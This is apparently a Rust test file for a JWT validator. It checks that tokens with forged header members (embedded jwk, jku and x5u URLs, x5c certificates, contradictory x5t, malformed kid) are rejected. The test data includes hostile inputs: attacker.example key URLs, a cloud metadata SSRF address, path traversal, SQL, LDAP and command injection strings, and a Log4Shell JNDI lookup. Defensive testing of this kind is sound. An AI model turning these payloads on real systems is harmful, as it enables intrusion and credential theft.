//! A22 to A31: `kid` is an index into the published set, and nothing in a header can bring another key.

use countersign_token::{Rejection, base64_encode_standard, base64url_encode};
use serde_json::{Value, json};

use crate::kit::forge::certificate;
use crate::kit::{
    ATTACKER_KID, GENUINE_KID, Kit, NEXT_KID, attacker, attacker_pkcs8, genuine_pkcs8, jwk, next, without,
};

/// The attacker's token with one more header member.
fn forged(name: &str, value: impl Into<Value>) -> Kit {
    Kit::v2_app().signed_by(attacker()).header(name, value)
}

#[test]
fn a22_the_attackers_key_under_the_genuine_kid() {
    Kit::v2_app().signed_by(attacker()).refused(Rejection::SignatureInvalid);
}

#[test]
fn a23_a_key_embedded_in_the_header() {
    let public = without(without(jwk(attacker()), "issuer"), "cloud_instance_name");
    let mut private = public.clone();
    private["d"] = "AQAB".into();
    let oct = json!({"kty": "oct", "k": "c2VjcmV0"});
    for embedded in [public.clone(), private, oct, json!(public.to_string()), json!(null)] {
        forged("jwk", embedded.clone()).refused(Rejection::KeyInHeader("jwk"));
        forged("jwk", embedded).header("kid", ATTACKER_KID).refused(Rejection::KeyInHeader("jwk"));
    }
    // Even where the genuine key signed: whoever sends such a header did not get it from Entra.
    Kit::v2_app().header("jwk", public).refused(Rejection::KeyInHeader("jwk"));
}

const PLACES: [&str; 7] = [
    "https://attacker.example/keys",
    "file:///etc/passwd",
    "data:application/json,{\"keys\":[]}",
    "http://169.254.169.254/metadata/identity/oauth2/token",
    "https://login.microsoftonline.com@attacker.example/keys",
    "https://attacker.example/keys#https://login.microsoftonline.com/",
    "//attacker.example",
];

#[test]
fn a24_jku_is_neither_followed_nor_ignored() {
    for place in PLACES {
        forged("jku", place).refused(Rejection::KeyInHeader("jku"));
    }
    forged("jku", json!(["https://attacker.example"])).refused(Rejection::KeyInHeader("jku"));
}

#[test]
fn a25_x5u_is_neither_followed_nor_ignored() {
    for place in PLACES {
        forged("x5u", place).refused(Rejection::KeyInHeader("x5u"));
    }
}

#[test]
fn a26_a_certificate_in_the_header() {
    let own = base64_encode_standard(&certificate(attacker_pkcs8(), "login.microsoftonline.com"));
    let real = base64_encode_standard(&certificate(genuine_pkcs8(), "accounts.accesscontrol.windows.net"));
    forged("x5c", json!([own])).refused(Rejection::KeyInHeader("x5c"));
    forged("x5c", json!([])).refused(Rejection::KeyInHeader("x5c"));
    // A chain does not even fit into the header that an access token may have.
    forged("x5c", json!([own, real])).refused(Rejection::TooLarge);
}

#[test]
fn a27_thumbprint_and_kid_that_contradict_each_other() {
    // x5t genuine, kid the attacker's, and the reverse.
    forged("x5t", GENUINE_KID).header("kid", ATTACKER_KID).refused(Rejection::UnknownKey);
    forged("x5t", ATTACKER_KID).refused(Rejection::ThumbprintMismatch);
    // Both published, but not the same key.
    Kit::v2_app().header("x5t", NEXT_KID).refused(Rejection::ThumbprintMismatch);
    Kit::v2_app().header("x5t", GENUINE_KID).header("kid", NEXT_KID).refused(Rejection::ThumbprintMismatch);
    Kit::v2_app().header("x5t", "").refused(Rejection::ThumbprintMismatch);
    Kit::v2_app().header("x5t", json!(null)).refused(Rejection::HeaderMalformed);
}

#[test]
fn a28_kid_as_a_path() {
    for kid in ["../../../../dev/null", "/dev/null", "/proc/self/environ", "C:\\Windows\\win.ini", "..%2f..%2fkey"] {
        forged("kid", kid).refused(Rejection::UnknownKey);
    }
}

#[test]
fn a29_kid_as_a_query_a_command_or_a_log_line() {
    for kid in ["'OR'1'='1", "*)(uid=*", "$(id)", "{{7*7}}", "${jndi:ldap://attacker.example/a}", "|/bin/sh"] {
        forged("kid", kid).refused(Rejection::UnknownKey);
    }
    for kid in ["' UNION SELECT 'x", "a\r\nlevel=info admin", "a\0b", "\u{1b}[2J", "käy", "\u{202e}yek", " ", "a\tb"] {
        forged("kid", kid).refused(Rejection::KeyIdMalformed);
    }
}

#[test]
fn a30_kid_of_a_wrong_size_or_type() {
    forged("kid", "k".repeat(65_536)).refused(Rejection::TooLarge);
    forged("kid", "k".repeat(2_000)).refused(Rejection::TooLarge);
    forged("kid", "k".repeat(129)).refused(Rejection::KeyIdMalformed);
    forged("kid", "k".repeat(128)).refused(Rejection::UnknownKey);
    forged("kid", "").refused(Rejection::KeyIdMalformed);
    for value in [json!(null), json!(1), json!([GENUINE_KID]), json!({"kid": GENUINE_KID}), json!(true)] {
        forged("kid", value).refused(Rejection::HeaderMalformed);
    }
    Kit::v2_app().without_header("kid").refused(Rejection::KeyIdMissing);
}

#[test]
fn a30_kid_is_compared_letter_for_letter() {
    Kit::v2_app().header("kid", GENUINE_KID.to_lowercase()).refused(Rejection::UnknownKey);
    Kit::v2_app().header("kid", &GENUINE_KID[..26]).refused(Rejection::UnknownKey);
    Kit::v2_app().header("kid", format!("{GENUINE_KID}=")).refused(Rejection::UnknownKey);
}

#[test]
fn a31_kid_of_another_published_key() {
    Kit::v2_app().header("kid", NEXT_KID).refused(Rejection::SignatureInvalid);
    Kit::v2_app().signed_by(next()).refused(Rejection::SignatureInvalid);
}

#[test]
fn a_graph_token_is_named_as_such() {
    // Only Graph can verify it: the nonce was hashed before it was signed.
    let kit = Kit::v1_app().header("nonce", "q0r5Zb0Yk3K2uXv8");
    kit.refused(Rejection::GraphToken);
    let token = kit.token();
    kit.refuses(&token.replace(&token[token.len() - 10..], &base64url_encode(&[0; 8])[..10]), Rejection::GraphToken);
}
